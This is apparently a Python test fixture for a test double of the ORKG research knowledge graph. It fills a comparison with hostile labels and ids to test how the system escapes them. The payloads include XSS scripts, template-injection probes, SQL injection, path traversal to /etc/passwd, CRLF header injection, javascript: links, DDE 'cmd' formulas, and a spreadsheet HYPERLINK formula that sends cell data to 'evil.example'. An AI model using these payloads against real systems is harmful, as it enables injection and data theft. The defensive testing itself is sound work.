"""A world made by somebody who means harm: labels with markup and formulas, the longest label, ids that are none."""

from __future__ import annotations

from tests.orkg_double import base, clock
from tests.orkg_double.state import ADA, BO, Comparison, Paper, State, Statement, Thing

COMPARISON = "R666001"
MADE = "2025-05-05T05:05:05+02:00"
LABELS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}#{7*7}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\u202e0001 :ezis\u202c",
    "مرحبا بالعالم",
    "a\u0000b",
    "line\nbreak",
    "x" * 8164,
    "'; DROP TABLE cells; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:x=1",
    "1e999999",
    "９９９",
    "😀",
)
BAD_IDS = ("R1/../../user", "R 1?x=1#y", "Ŗ1", "R666:x%2Fy", "<b>")
"""Ids of columns. Only one of them fits what ORKG's ids look like, but for its percent sign."""


def world() -> State:
    """One comparison of one column per bad id, one row with a hostile label per column, and one row for all labels."""
    state = base.world()
    state.put(Thing("P666001", "predicate", "<b>size</b>", MADE, BO))
    state.put(Thing("P666002", "predicate", "=1+1", MADE, BO))
    state.put(Thing("R666010", "resource", "<i>A paper</i>", MADE, BO, classes=("Paper",)))
    state.papers["R666010"] = Paper("R666010", ("R133",), {"doi": ["10.99999/<script>"]}, {}, ({"name": "<u>"},))
    state.put(Thing(COMPARISON, "resource", "<h1>Hostile</h1>", MADE, BO, classes=("Comparison",)))
    state.comparisons[COMPARISON] = Comparison(
        COMPARISON,
        COMPARISON,
        "<script>alert(2)</script>",
        research_fields=("R133",),
        authors=({"name": "=1+1", "homepage": "javascript:alert(1)"},),
        references=("javascript:alert(1)",),
        selected_paths=[
            {"id": "P666001", "type": "PREDICATE", "children": []},
            {"id": "P666002", "type": "PREDICATE", "children": []},
        ],
    )
    for number, identity in enumerate((*BAD_IDS, "R666020")):
        state.put(Thing(identity, "resource", LABELS[number], MADE, BO, classes=("Contribution",), uri="javascript:x"))
        _say(state, "R666010", "P31", identity)
        _say(state, COMPARISON, "compareContribution", identity)
        _cell(state, identity, "P666001", LABELS[number])
    for label in LABELS:
        _cell(state, "R666020", "P666002", label)
    state.now = clock.START
    return state


def _cell(state: State, subject: str, predicate: str, label: str) -> None:
    _say(state, subject, predicate, state.literal(label, by=ADA).id)


def _say(state: State, subject: str, predicate: str, object_: str) -> None:
    state.put_statement(Statement(state.new_id("S"), subject, predicate, object_, state.tick(), BO))
